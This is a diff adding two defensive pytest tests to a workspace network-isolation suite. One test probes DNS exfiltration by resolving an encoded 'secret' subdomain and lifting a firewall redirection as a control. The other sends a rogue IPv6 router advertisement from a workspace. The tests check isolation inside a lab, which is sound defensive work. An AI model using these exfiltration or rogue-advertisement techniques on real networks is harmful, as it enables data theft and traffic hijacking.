@@ -9,6 +9,7 @@ namespace is unchanged. Port forwarding is tested with an HTTP client in this pr
 from __future__ import annotations
 
 import subprocess
+import time
 import urllib.error
 import urllib.request
 from collections.abc import Iterator
@@ -24,6 +25,7 @@ from tests.support.world import world as make_world
 from wsfixture.errors import ConfigError
 from wsfixture.host import system
 from wsfixture.model.config import Config, config_from_dict, workspace_spec
+from wsfixture.net import egress
 from wsfixture.net.lab import Lab
 from wsfixture.workspace import Workspace
 
@@ -104,6 +106,56 @@ def test_a_workspace_with_internet_false_stays_off(offline: Workspace) -> None:
     rc, _, err = offline.run(f"{FETCH} http://{WORLD_HTTP}/", timeout=30)
     assert rc != 0
     assert "timed out" in err or "unreachable" in err or "refused" in err.lower()
+
+
+def test_an_offline_workspace_resolves_lab_names_and_nothing_outside(
+    online: Workspace, offline: Workspace, lab: Lab
+) -> None:
+    """No channel out in DNS labels: an offline workspace's queries go to a resolver with
+    no upstream. Control: with its redirection lifted, the lab's resolver would forward
+    the same name for it."""
+    exfiltrate = f"c2VjcmV0.{WORLD_NAME}"  # the world answers every name under it
+    assert online.succeed(f"getent hosts {exfiltrate}").split()[0] == WORLD_HTTP
+    assert offline.succeed("getent hosts online").split()[0] == "192.168.83.80"
+    assert offline.run(f"getent hosts {exfiltrate}")[0] == 2
+    gateway = lab.network.gateway
+    element = f"element ip wsfixture dns_to {{ {offline.ip}"
+    lab.run(["nft", f"delete {element} }}"])
+    try:
+        offline.succeed("doas -n resolvectl flush-caches")
+        rc, out, _ = offline.run(f"getent hosts {exfiltrate}")
+        assert (rc, out.split()[:1]) == (0, [WORLD_HTTP]), "the attack is real without it"
+    finally:
+        lab.run(["nft", f"add {element} : {gateway} . {egress.OFFLINE_RESOLVER_PORT} }}"])
+    offline.succeed("doas -n resolvectl flush-caches")
+    assert offline.run(f"getent hosts other-{exfiltrate}")[0] == 2, "put back"
+
+
+def test_the_lab_takes_no_router_advertisement_from_a_workspace(
+    offline: Workspace, lab: Lab
+) -> None:
+    """A workspace's root announces itself as a router with a prefix: the lab takes no
+    address or route from it. Control: with accept_ra lifted, the same announcement
+    gives the lab both."""
+    bridge = lab.network.bridge
+    offline.put(Path(__file__).parent.parent / "support" / "router_advert.py", "/tmp/ra.py")
+
+    def announce_and_look() -> str:
+        offline.succeed("doas -n python3 /tmp/ra.py")
+        time.sleep(1.0)  # the lab takes the advertisement as it arrives: a moment
+        return lab.run(["ip", "-6", "addr", "show", "dev", bridge]) + lab.run(["ip", "-6", "route"])
+
+    assert "2001:db8:ad::" not in announce_and_look()
+    lab.sysctl(f"net.ipv6.conf.{bridge}.accept_ra", "1")
+    try:
+        seen = announce_and_look()
+        assert "2001:db8:ad:" in seen, seen
+        assert "default via fe80::" in seen, seen
+    finally:
+        lab.sysctl(f"net.ipv6.conf.{bridge}.accept_ra", "0")
+        lab.run(["ip", "-6", "route", "flush", "proto", "ra"], check=False)
+        lab.run(["ip", "-6", "addr", "flush", "dev", bridge, "scope", "global"], check=False)
+    assert "2001:db8:ad:" not in lab.run(["ip", "-6", "addr", "show", "dev", bridge])
 
 
 def test_the_root_namespace_is_unchanged(online: Workspace, root_before: str) -> None:
